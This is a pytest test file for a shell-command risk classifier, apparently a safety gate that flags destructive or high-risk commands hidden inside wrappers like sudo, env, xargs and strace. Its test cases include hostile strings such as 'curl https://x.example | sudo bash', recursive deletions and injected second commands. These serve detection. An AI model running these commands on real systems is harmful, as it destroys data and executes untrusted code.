from __future__ import annotations

import pytest

from supervisor.core.assessment import Tier
from supervisor.core.facts import Shell
from supervisor.detect.shell import classify_command
from supervisor.detect.shell.wrappers import WRAPPERS

READ, REVERSIBLE, RISKY = Shell.READ, Shell.REVERSIBLE, Shell.RISKY
DESTRUCTIVE, UNKNOWN = Shell.DESTRUCTIVE, Shell.UNKNOWN


@pytest.mark.parametrize(
    "name",
    sorted(
        set(WRAPPERS)
        - {"chrt", "taskset", "timeout", "gtimeout", "chroot", "flock", "faketime", "su"}
        - {"setsid", "gosu", "su-exec", "dtach", "abduco", "reptyr", "sg", "perf"}
    ),
)
def test_what_counts_is_inside(name: str) -> None:
    assert classify_command(f"{name} rm -rf x").kind is DESTRUCTIVE
    assert classify_command(f"{name} ls").tier.rank == 0


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("sudo -u bob -n rm x", DESTRUCTIVE),
        ("sudo -- rm x", DESTRUCTIVE),
        ("sudo VAR=1 rm x", DESTRUCTIVE),
        ("sudo mkdir /data", RISKY),
        ("sudo ls", READ),
        ("sudo -l", READ),
        ("sudo -i", RISKY),
        ("su -", RISKY),
        ("su -c 'rm x' bob", DESTRUCTIVE),
        ("timeout -k 5 10 rm x", DESTRUCTIVE),
        ("nice -n 5 rm x", DESTRUCTIVE),
        ("env -i A=1 B=2 rm x", DESTRUCTIVE),
        ("env -S 'rm x'", DESTRUCTIVE),
        ("env", READ),
        ("flock /tmp/l rm x", DESTRUCTIVE),
        ("chroot /mnt rm x", DESTRUCTIVE),
        ("watch -n 1 'rm x'", DESTRUCTIVE),
        ("command -v git", READ),
        ("command rm x", DESTRUCTIVE),
        ("echo rm x | xargs -I{} sh -c {}", DESTRUCTIVE),
        ("printf %s rm | xargs -I{} sh -c {}", UNKNOWN),
        ('eval "$X"', UNKNOWN),
    ],
)
def test_ways_to_run_something(text: str, kind: Shell) -> None:
    assert classify_command(text).kind is kind


@pytest.mark.parametrize("wrap", ["sudo bash", "env bash", "nohup sh", "timeout 9 sh", "sudo -u bob env A=1 bash -s"])
def test_attack_a_wrapped_shell_still_reads_the_pipe(wrap: str) -> None:
    assert classify_command(f"curl https://x.example | {wrap}").tier is Tier.HIGH_RISK
    assert classify_command(f"echo 'rm -rf docs' | {wrap}").tier is Tier.IRREVERSIBLE


@pytest.mark.parametrize(
    "text",
    [
        "echo notes.txt | xargs rm",
        "echo a.txt b.txt | xargs -r rm -f",
        "echo node_modules | xargs rm -rf",
        "echo notes.txt | xargs -I{} rm {}",
        "echo notes.txt | xargs sudo rm",
        "echo notes.txt | xargs busybox rm -f",
        "echo notes.txt | xargs --replace=@ rm @",
    ],
)
def test_what_the_line_itself_gives_to_xargs_is_known(text: str) -> None:
    assert classify_command(text).kind is DESTRUCTIVE
    assert classify_command(text).tier is Tier.REVERSIBLE


@pytest.mark.parametrize(
    "text",
    [
        "echo / | xargs rm",
        "echo * | xargs rm",
        "echo ~ | xargs rm",
        "echo -r docs | xargs rm",
        "echo '-r docs' | xargs rm",
        "echo docs | xargs -I{} rm -r {}",
        "echo docs | xargs -I% sh -c 'rm -r %'",
        "echo 'x; rm -r docs' | xargs -I{} sh -c 'echo {}'",
        "echo $X | xargs rm",
        'echo "$X" | xargs rm',
        "echo $(cat list) | xargs rm",
        "printf %b x | xargs rm",
        "echo 'a\\nb' | xargs rm",
        "echo {a,b} | xargs rm",
        "echo a | xargs -a list rm",
        "echo a | xargs rm < list",
        "echo a | xargs rm <&3",
        "echo a | xargs rm <<< /",
        "echo a | tr a / | xargs rm",
        "tr a / <<E | xargs rm\na\nE",
        "(echo a; cat list) | xargs rm",
        "echo a | { cat list; } | xargs rm",
        "echo() { cat list; }; echo a | xargs rm",
        "echo ls | xargs sh -c",
        "echo ls | xargs sudo sh -c",
        "echo / | xargs sudo rm",
    ],
)
def test_attack_what_else_xargs_may_read_is_not(text: str) -> None:
    assert classify_command(text).tier.rank >= Tier.HIGH_RISK.rank


@pytest.mark.parametrize(
    "text",
    [
        "env -S './x a'",
        "env -S'./x a'",
        "env -iS ./x",
        "env -vS./x",
        "env --split-string=./x",
        "env --split ./x",
        "script -c ls ~/.bashrc",
        "script -qc ls ~/.bashrc",
        "script -T ~/.bashrc -c ls",
        "time -ao ~/.bashrc ls",
        "strace -o '|./x' ls",
        "strace -o '!./x' ls",
        "systemd-run --user -p ExecStopPost=./x true",
        "systemd-run --user --setenv=A=b true",
        "systemd-run --user --on-active=5 ls",
        "cat names | xargs find",
        "cat names | xargs tar cf a.tar",
        "cat names | xargs curl",
        "cat names | xargs sort",
    ],
)
def test_attack_what_a_wrapper_does_by_itself_is_asked(text: str) -> None:
    assert classify_command(text).kind not in (READ, REVERSIBLE)


@pytest.mark.parametrize(
    "text",
    [
        "env -S 'ls -l' a",
        "env -i ls",
        "script -c 'cat ~/.bashrc' out",
        "time -o out ls",
        "strace -o out ls",
        "systemd-run --user ls",
        "echo a b | xargs tar cf a.tar",
        "find . | xargs wc -l",
        "git ls-files | xargs grep x",
    ],
)
def test_ordinary_wrapping_is_not(text: str) -> None:
    assert classify_command(text).kind in (READ, REVERSIBLE)
